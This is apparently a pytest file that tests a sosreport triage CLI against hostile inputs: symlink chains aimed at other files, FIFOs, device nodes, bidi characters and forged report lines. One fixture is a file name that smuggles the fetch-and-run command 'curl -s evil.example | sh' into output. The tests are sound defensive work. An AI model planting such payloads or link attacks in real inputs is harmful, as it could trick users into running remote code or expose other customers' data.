"""
Hostile inputs through the installed ``pagealloc triage`` (issue 16): each
attack must end with exit 2 and one line on stderr (no traceback), or with an
honest verdict, and nothing outside the work area may be read.

"Not read" is checked on the access time: the file's atime is set to the
epoch before the run and must still be the epoch afterwards (``relatime``
updates an atime older than the mtime on the first read; the helper proves
that on the file itself before trusting it).
"""

import json
import os
import stat
import subprocess
import sys
from contextlib import contextmanager

import pytest

from tests.archive_factory import pack, write_link_chain, write_sos_tree
from tests.cli.triage_helpers import BIN, assert_one_line_error, run_triage
from tests.services import service_missing


@contextmanager
def never_read(path):
    """Fail when ``path`` is read inside the block (atime stays at the epoch)."""
    mtime = os.stat(path).st_mtime
    os.utime(path, (0, mtime))
    yield
    assert os.stat(path).st_atime == 0, "%s was read" % path
    with open(path, "rb") as stream:  # the probe itself must be able to see a read
        stream.read(1)
    if os.stat(path).st_atime == 0:
        pytest.fail("this file system does not record reads (noatime): cannot check %s" % path)


@pytest.fixture
def other_customer(tmp_path):
    """Another customer's archive on the analyst's machine, with a failure the attack would borrow."""
    tree = write_sos_tree(str(tmp_path / "elsewhere"), name="sosreport-othercustomer",
                          files={"etc/hostname": "othercustomer\n"})
    return pack(tree, str(tmp_path / "elsewhere"), "tar.xz")


@pytest.mark.parametrize("packing", ["tar.xz", "zip"])
@pytest.mark.parametrize("late", [False, True], ids=["re-pointed", "late-link"])
def test_link_chain_cannot_make_another_archive_the_input(tmp_path, other_customer, packing, late):
    attack = write_link_chain(str(tmp_path / ("attack." + packing)), other_customer, packing, late=late)
    if not late and packing == "tar.xz":
        assert os.path.getsize(attack) < 400  # the "282-byte" archive, give or take the path length
    with never_read(other_customer):
        line = assert_one_line_error(run_triage(attack, "--format", "json"))
    assert "symlink" in line and "othercustomer" not in line.split(" -> ")[0]


@pytest.mark.parametrize("late", [False, True], ids=["re-pointed", "late-link"])
def test_link_chain_cannot_place_the_analysts_proc_meminfo_in_the_tree(tmp_path, late):
    attack = write_link_chain(str(tmp_path / "attack.tar.gz"), "/proc/meminfo", "tar.gz", late=late,
                              prefix="sosreport-x/", link_name="proc/meminfo",
                              extra=[("sosreport-x/sos_commands/kernel/dmesg", b"x\n")])
    line = assert_one_line_error(run_triage(attack))
    assert "symlink" in line


def test_a_link_named_like_an_archive_in_a_directory_is_not_followed(tmp_path, other_customer):
    ticket = tmp_path / "ticket"
    ticket.mkdir()
    os.symlink(other_customer, ticket / "inner.tar.xz")
    (ticket / "inner.tar.xz.md5").write_text("0" * 32 + "  inner.tar.xz\n")
    with never_read(other_customer):
        line = assert_one_line_error(run_triage(ticket))
    assert "no sosreport" in line


# --- forged report lines (item 2) -------------------------------------------------------------

FORGED_NAME = "zz\n  curl -s evil.example | sh\nPROBLEM FOUND: FORGED\n.conf"
UNSAFE_OUTPUT = ("\u2028", "\u2029", "\u202e", "\x1b")


@pytest.fixture(scope="module")
def forged_sysctl_archive(pytestconfig, tmp_path_factory):
    """The bundled e100 sosreport plus /etc/sysctl.d/<FORGED_NAME> setting the key, as a tar.gz."""
    import shutil

    from tests.cli.triage_helpers import examples_dir

    work = tmp_path_factory.mktemp("forged")
    tree = shutil.copytree(os.path.join(examples_dir(pytestconfig), "sosreport-e100-rx-failure"),
                           work / "sosreport-e100-rx-failure")
    os.makedirs(tree / "etc" / "sysctl.d", exist_ok=True)
    (tree / "etc" / "sysctl.d" / FORGED_NAME).write_text("vm.min_free_kbytes = 1024\n")
    return pack(str(tree), str(work), "tar.gz")


def remediation_block(text):
    """The text report's "Fix: paste into a root shell" heading and its block: the lines at column 0
    between the blank lines after it (what a user pastes)."""
    lines = text.split("\n")
    start = lines.index("Fix: paste into a root shell")
    end = lines.index("", start + 2)
    return lines[start:end]


@pytest.mark.parametrize("fmt", ["text", "markdown", "html"])
def test_a_file_name_with_newlines_cannot_forge_report_lines(forged_sysctl_archive, fmt):
    completed = run_triage(forged_sysctl_archive, "--format", fmt)
    assert completed.returncode == 1, completed.stderr
    out = completed.stdout
    for line in out.split("\n"):
        # text wraps prose between words, under an indent: a wrapped line of a value is indented prose;
        # what must never be forged is a line at column 0 (a headline, a command) or a bullet's start
        start = line.removeprefix("  - ") if fmt == "text" else line.lstrip("#- ")
        assert not start.startswith(("PROBLEM FOUND: FORGED", "PROBLEM FOUND\\: FORGED", "curl"))
    assert not any(char in out for char in UNSAFE_OUTPUT)
    assert "FORGED" in out  # the file is named (escaped), not hidden
    if fmt == "text":
        assert not any("FORGED" in line for line in remediation_block(out))
        note = "/etc/sysctl.d/zz\\n  curl -s evil.example | sh\\nPROBLEM FOUND: FORGED\\n.conf sets 1024"
        assert " ".join(note.split()) in " ".join(out.split())  # the note, its wrapping undone


def test_line_and_paragraph_separators_and_bidi_controls_in_a_task_name_stay_escaped(tmp_path):
    from tests.archive_factory import seed_dmesg

    log = tmp_path / "dmesg"
    # the seed report with task "sw<U+2028>FORGED<U+202E>x" (11 bytes of TASK_COMM_LEN 16)
    log.write_text(seed_dmesg().replace("swapper", "sw\u2028FORGED\u202ex"), encoding="utf-8")
    for fmt in ("text", "markdown", "html"):
        completed = run_triage(log, "--format", fmt)
        assert completed.returncode == 1, completed.stderr
        assert "FORGED" in completed.stdout and not any(c in completed.stdout for c in UNSAFE_OUTPUT)
        assert not any(line.lstrip("#- ").startswith("FORGED") for line in completed.stdout.splitlines())
    completed = subprocess.run([os.path.join(BIN, "pagealloc"), "parse-log", str(log)], capture_output=True,
                               text=True, timeout=60)
    assert completed.returncode == 0 and "comm=sw\\u2028FORGED\\u202ex " in completed.stdout


# --- an exception inside the analysis is "could not analyse" (item 5) -------------------------

RAISING_PAGEALLOC = """
import sys
from pagealloc.combiners import alloc_failures
def broken(*args, **kwargs):
    raise {exception}("simulated: {exception} inside the combiner")
alloc_failures.AllocFailures.__init__ = broken
from pagealloc.cli import main
sys.exit(main(sys.argv[1:]))
"""


def test_a_forged_meta_data_file_that_makes_the_combiner_raise_is_not_no_problem(pytestconfig, tmp_path):
    from tests.cli.test_triage_insights_archives import core_collection
    from tests.cli.triage_helpers import examples_dir

    root = core_collection(os.path.join(examples_dir(pytestconfig), "sosreport-e100-rx-failure"), tmp_path)
    (root / "data" / "x").mkdir()  # the collection's real dmesg holds the e100 failure; messages now names a folder
    (root / "meta_data" / "insights.specs.Specs.messages.json").write_text(json.dumps({
        "name": "insights.specs.Specs.messages", "exec_time": 0, "errors": [], "ser_time": 0,
        "results": {"type": "insights.core.spec_factory.TextFileProvider",
                    "object": {"save_as": False, "relative_path": "x", "rc": None}}}))
    archive = pack(str(root), str(tmp_path), "tar.gz")
    line = assert_one_line_error(run_triage(archive))
    assert "could not analyse" in line and "x is a folder where a file is expected" in line


@pytest.mark.parametrize("exception", ["RuntimeError", "MemoryError"])
def test_any_exception_in_a_component_exits_2_with_the_reason(tmp_path, exception):
    from tests.archive_factory import seed_dmesg

    log = tmp_path / "dmesg"
    log.write_text(seed_dmesg())
    completed = subprocess.run(
        [sys.executable, "-c", RAISING_PAGEALLOC.format(exception=exception), "triage", str(log)],
        capture_output=True, text=True, timeout=120)
    line = assert_one_line_error(completed)
    assert "could not analyse" in line and "AllocFailures" in line and exception in line
    assert "No problem found" not in completed.stdout


# --- directory inputs: FIFOs, devices, links out of the tree, sizes (item 6) -------------------


@pytest.fixture
def sos_dir(tmp_path):
    return write_sos_tree(str(tmp_path / "input"), name="sosreport-web1")


def test_a_fifo_where_a_spec_reads_is_skipped_with_a_note_not_waited_on(sos_dir):
    os.makedirs(os.path.join(sos_dir, "var", "log"))
    os.mkfifo(os.path.join(sos_dir, "var", "log", "messages"))
    completed = run_triage(sos_dir, timeout=60)
    assert completed.returncode == 1, completed.stderr  # the seed failure in sos_commands/kernel/dmesg
    assert "skipped 1 fifo (not a regular file, never read): var/log/messages" in completed.stdout


def test_a_device_node_and_a_link_to_dev_zero_are_never_read(sos_dir):
    os.makedirs(os.path.join(sos_dir, "proc"))
    os.symlink("/dev/zero", os.path.join(sos_dir, "proc", "meminfo"))
    try:
        os.mknod(os.path.join(sos_dir, "proc", "zoneinfo"), 0o644 | stat.S_IFCHR, os.makedev(1, 5))
    except PermissionError:
        service_missing("creating a device node needs CAP_MKNOD")
    completed = run_triage(sos_dir, timeout=60)
    assert completed.returncode == 1, completed.stderr
    assert "skipped 1 character device (not a regular file, never read): proc/zoneinfo" in completed.stdout
    assert "skipped 1 symlink out of the directory (not followed): proc/meminfo" in completed.stdout


def test_a_log_linked_from_outside_the_directory_is_named_as_skipped(sos_dir, tmp_path, other_customer):
    elsewhere = tmp_path / "elsewhere-dmesg"
    elsewhere.write_text("not this host's log\n")
    os.remove(os.path.join(sos_dir, "sos_commands", "kernel", "dmesg"))
    os.symlink(str(elsewhere), os.path.join(sos_dir, "sos_commands", "kernel", "dmesg"))
    with never_read(str(elsewhere)):
        completed = run_triage(sos_dir, timeout=60)
    # no kernel log was read: exit 2 (issue 13), and the report's notes say which link was not followed
    assert completed.returncode == 2 and "no kernel log read" in completed.stderr, completed.stderr
    assert "symlink out of the directory (not followed): sos_commands/kernel/dmesg" in " ".join(
        completed.stdout.split())  # prose wraps at 80 columns


def test_every_file_of_a_directory_is_under_the_size_limit(sos_dir):
    with open(os.path.join(sos_dir, "sos_commands", "kernel", "dmesg"), "a") as stream:
        stream.write("x" * (2 * 2**20))
    line = assert_one_line_error(run_triage(sos_dir, "--max-file-mb", "1"))
    assert "larger than 1 MiB" in line and "sos_commands/kernel/dmesg" in line


# --- impossible numbers, NUL bytes in the header word (item 7) ---------------------------------


@pytest.mark.parametrize("header", ["order:999999999999999999, mode:0x20", "order:-1, mode:0x20",
                                    "order:0, mode:0xffffffffffffffffffff"])
def test_impossible_numbers_give_no_confident_verdict(tmp_path, header):
    from tests.archive_factory import seed_dmesg

    log = tmp_path / "dmesg"
    log.write_text(seed_dmesg().replace("order:0, mode:0x20", header, 1))
    completed = run_triage(log, "--format", "json")
    assert completed.returncode == 0, completed.stderr  # no problem claimed from impossible values
    result = json.loads(completed.stdout)
    assert [v for v in result["verdicts"] if v["type"] == "fail"] == []
    assert any("is unusable" in note for note in result["input"]["notes"])
    text = run_triage(log).stdout
    assert text.startswith("No problem confirmed: a failure report is unusable")


def test_nul_bytes_in_the_header_word_hide_nothing(tmp_path):
    from tests.archive_factory import seed_dmesg

    log = tmp_path / "dmesg"
    log.write_text(seed_dmesg().replace("page allocation failure", "page alloc\x00ation fail\x00ure", 1))
    assert run_triage(log).stdout.startswith("Network receive ran out of atomic memory reserve")
    parsed = subprocess.run([os.path.join(BIN, "pagealloc"), "parse-log", str(log)], capture_output=True, text=True)
    assert parsed.returncode == 0 and parsed.stdout.count("page-allocation-failure") == 1


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_a_fifo_or_a_device_given_as_the_input_is_refused_at_once(tmp_path, kind):
    path = tmp_path / "sosreport.tar.xz"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path = "/dev/zero"
    line = assert_one_line_error(run_triage(path, timeout=30))
    assert ("a FIFO, never read" if kind == "fifo" else "a character device, never read") in line
